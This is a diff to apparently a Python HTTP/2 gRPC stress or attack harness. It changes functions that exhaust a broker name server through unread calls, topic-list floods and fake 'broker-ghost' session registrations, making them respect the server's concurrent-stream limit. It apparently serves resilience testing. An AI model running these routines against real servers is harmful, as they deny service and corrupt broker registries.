@@ -88,11 +88,26 @@ class H2Client:
             ("te", "trailers"),
         ]
 
-    def start_calls(self, path: str, request: bytes, count: int) -> list[int]:
-        """Start ``count`` unary calls of ``path`` with ``request`` (serialized); returns their stream
-        ids. Reads what the server sent between calls, so its SETTINGS and PINGs are answered."""
+    def stream_room(self, wait: float = 0.0) -> bool:
+        """Whether one more stream may be opened under the server's ``SETTINGS_MAX_CONCURRENT_STREAMS``
+        (``grpcMaxConcurrentStreams``), reading for up to ``wait`` s while it is at that bound (the
+        server's answers and refusals end streams). Before the server's SETTINGS are read, any."""
+        deadline = time.monotonic() + wait
+        while self.conn.open_outbound_streams >= self.conn.remote_settings.max_concurrent_streams:
+            if self.closed or time.monotonic() >= deadline:
+                return False
+            self.pump(0.05)
+        return not self.closed
+
+    def start_calls(self, path: str, request: bytes, count: int, wait: float = 0.0) -> list[int]:
+        """Start ``count`` unary calls of ``path`` with ``request`` (serialized), as many as the
+        server's stream bound lets in (waiting up to ``wait`` s for each when at the bound); returns
+        the stream ids of those started. Reads what the server sent between calls, so its SETTINGS
+        and PINGs are answered."""
         ids = []
         for index in range(count):
+            if not self.stream_room(wait):
+                break
             stream_id = self.conn.get_next_available_stream_id()
             self.conn.send_headers(stream_id, self.headers(path))
             self.send_message(stream_id, grpc_message(request), end_stream=True)
@@ -105,7 +120,8 @@ class H2Client:
 
     def open_stream(self, path: str, request: bytes | None = None) -> int:
         """Start a streaming call of ``path`` (sending ``request`` as its first message, if any) and
-        leave it open; returns its stream id."""
+        leave it open; returns its stream id. Past the server's stream bound (:meth:`stream_room`)
+        h2 raises ``TooManyStreamsError``."""
         stream_id = self.conn.get_next_available_stream_id()
         self.conn.send_headers(stream_id, self.headers(path))
         if request is not None:
@@ -263,13 +279,15 @@ def attack_unread_answers(
     """One connection with a receive window of 0 starts ``lists`` GetAllTopicList calls, and
     ``lookup_connections`` more start ``lookups`` PickupTopicRoute calls each; none ever reads."""
     big = H2Client(address, window=0, settle=0)
-    big.start_calls(NS + "GetAllTopicList", b"", lists)
+    started = len(big.start_calls(NS + "GetAllTopicList", b"", lists))
     request = ns_pb2.PickupTopicRouteRequest(topic=topic).SerializeToString()
     small = [H2Client(address, window=0, settle=0) for _ in range(lookup_connections)]
-    for client in small:
-        client.start_calls(NS + "PickupTopicRoute", request, lookups)
+    started_small = sum(len(client.start_calls(NS + "PickupTopicRoute", request, lookups)) for client in small)
     hold([big, *small], seconds)
-    seen = f"lists: {statuses_text([big])}; lookups: {statuses_text(small)}"
+    seen = (
+        f"lists: {started:,} started (grpcMaxConcurrentStreams), {statuses_text([big])}; "
+        f"lookups: {started_small:,} started, {statuses_text(small)}"
+    )
     close_all([big, *small])
     return seen
 
@@ -279,9 +297,9 @@ def attack_topic_lists(address: str, calls: int, cluster: str, seconds: float) -
     reads its answers (through HTTP/2's default windows), until all are answered or ``seconds``."""
     client = H2Client(address, window=None, reads=True, settle=0)
     started = time.monotonic()
-    ids = client.start_calls(NS + "GetUnitTopicList", b"", calls)
+    ids = client.start_calls(NS + "GetUnitTopicList", b"", calls, wait=seconds)
     by_cluster = ns_pb2.GetTopicsByClusterRequest(cluster_name=cluster).SerializeToString()
-    ids += client.start_calls(NS + "GetTopicsByCluster", by_cluster, calls)
+    ids += client.start_calls(NS + "GetTopicsByCluster", by_cluster, calls, wait=seconds)
     deadline = started + seconds
     while any(client.ended(i) is None for i in ids) and time.monotonic() < deadline and not client.closed:
         client.pump(0.05)
@@ -402,6 +420,8 @@ def attack_unbound_sessions(
     for c in range(connections):
         client = H2Client(address, window=None, settle=0, source=source)
         for s in range(streams):
+            if not client.stream_room():  # the server's grpcMaxConcurrentStreams
+                break
             name = f"broker-ghost-{c}-{s}"
             client.open_stream(NS + "OpenBrokerSession", hello(name, f"127.0.0.9:{10000 + s}").SerializeToString())
             if s % 50 == 49:
